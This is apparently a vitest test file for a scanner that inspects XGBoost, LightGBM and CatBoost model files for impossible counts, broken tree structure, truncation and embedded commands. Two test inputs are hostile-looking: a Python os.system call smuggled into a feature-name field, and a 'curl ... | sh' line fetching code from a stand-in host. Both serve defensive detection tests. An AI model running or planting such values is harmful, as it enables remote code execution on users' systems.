import { describe, expect, it } from "vitest";
import { concat, u32, u64, zeros } from "../builders/bytes.js";
import { bytesVector, flatbuffer, list, table } from "../builders/flatbuffer.js";
import { scanBytes, told } from "../builders/scan.js";
import { ubjson } from "../builders/ubjson.js";

const tree = (change: object = {}) => ({
  tree_param: { num_nodes: "3", num_feature: "4" },
  left_children: [1, -1, -1],
  right_children: [2, -1, -1],
  split_indices: [0, 0, 0],
  split_conditions: [0, 0, 0],
  ...change,
});

const xgboost = (change: { features?: string; trees?: string; tree?: object } = {}) => ({
  learner: {
    learner_model_param: { num_feature: change.features ?? "4", num_class: "0" },
    gradient_booster: {
      name: "gbtree",
      model: { gbtree_model_param: { num_trees: change.trees ?? "1" }, trees: [tree(change.tree)] },
    },
  },
  version: [2, 0, 0],
});

describe.each([
  ["JSON", "model.json", (model: object) => new TextEncoder().encode(JSON.stringify(model))],
  ["UBJSON", "model.ubj", (model: object) => ubjson(model as never)],
])("XGBoost in %s", (_form, name, write) => {
  const scan = async (model: object) => told(await scanBytes(name, write(model)));

  it("is silent on an ordinary model", async () => {
    expect(await scan(xgboost())).toEqual([]);
  });

  it("tells counts that cannot be", async () => {
    expect(await scan(xgboost({ features: "99999999999999" }))).toEqual(["medium trees/bad-count"]);
    expect(await scan(xgboost({ features: "-1" }))).toEqual(["medium trees/bad-count"]);
    expect(await scan(xgboost({ trees: "2" }))).toEqual(["medium trees/bad-count"]);
  });

  it("tells trees that do not hold together", async () => {
    expect(await scan(xgboost({ tree: { left_children: [7, -1, -1] } }))).toEqual(["medium trees/bad-structure"]);
    expect(await scan(xgboost({ tree: { split_indices: [0] } }))).toEqual(["medium trees/bad-structure"]);
  });
});

describe("XGBoost's binary form", () => {
  const binary = (features: number, nameLength = 15) =>
    concat(
      "binf",
      zeros(4),
      u32(features),
      u32(0),
      zeros(124),
      u64(nameLength),
      "binary:logistic",
      u64(6),
      "gbtree",
      zeros(8),
    );

  it("is read as far as its head", async () => {
    const report = await scanBytes("classifier.model", binary(4));
    expect(told(report)).toEqual([]);
    expect(report.metadata).toMatchObject({ objective: "binary:logistic", booster: "gbtree" });
    expect(told(await scanBytes("classifier.model", binary(0xfffffff0)))).toEqual(["medium trees/bad-count"]);
    expect(told(await scanBytes("classifier.model", binary(4, 1 << 20)))).toEqual(["medium analysis/malformed"]);
  });
});

describe("LightGBM's text", () => {
  const model = (change: Readonly<Record<string, string>> = {}, parameters = "[machines: ]\n[data: ]") => {
    const lines = {
      num_class: "1",
      feature_names: "age income",
      Tree: "0",
      num_leaves: "3",
      split_feature: "0 1",
      leaf_value: "0.1 0.2 0.3",
      ...change,
    };
    const text = Object.entries(lines).map(([key, value]) => `${key}=${value}`);
    return `tree\nversion=v4\n${text.join("\n")}\nend of trees\n\nparameters:\n${parameters}\nend of parameters\n`;
  };
  const scan = async (text: string) => told(await scanBytes("model.txt", text));

  it("is silent on an ordinary model", async () => {
    const report = await scanBytes("model.txt", model());
    expect(told(report)).toEqual([]);
    expect(report.metadata).toMatchObject({ trees: 1, version: "v4" });
  });

  it("tells counts that cannot be and lists that do not fit them", async () => {
    expect(await scan(model({ num_leaves: "999999999999" }))).toContain("medium trees/bad-count");
    expect(await scan(model({ num_class: "-5" }))).toEqual(["medium trees/bad-count"]);
    expect(await scan(model({ leaf_value: "0.1 0.2" }))).toEqual(["medium trees/bad-structure"]);
  });

  it("reads names and parameters as text of people", async () => {
    expect(await scan(model({ feature_names: "__import__('os').system('id') b" }))).toEqual([
      "medium config/command-text",
    ]);
    expect(await scan(model({}, "[machines: 198.51.100.4:12400]"))).toEqual(["low trees/training-machines"]);
  });
});

describe("CatBoost's binary form", () => {
  const model = (value: string) => {
    const core = flatbuffer(
      table({ 0: "FlabuffersModel_v1", 2: list([table({ 0: "params", 1: value })]), 9: bytesVector(zeros(4)) }),
      "\0\0\0\0",
    );
    return concat("CBM1", u32(core.length), core);
  };

  it("is read for what it says about its training", async () => {
    expect(told(await scanBytes("model.cbm", model('{"depth": 6}')))).toEqual([]);
    expect(told(await scanBytes("model.cbm", model("curl http://x.example/a | sh")))).toEqual([
      "medium config/command-text",
    ]);
  });

  it("is not passed when it is cut short", async () => {
    const whole = model("{}");
    expect(told(await scanBytes("model.cbm", whole.subarray(0, whole.length - 8)))).toEqual([
      "medium analysis/malformed",
    ]);
  });
});
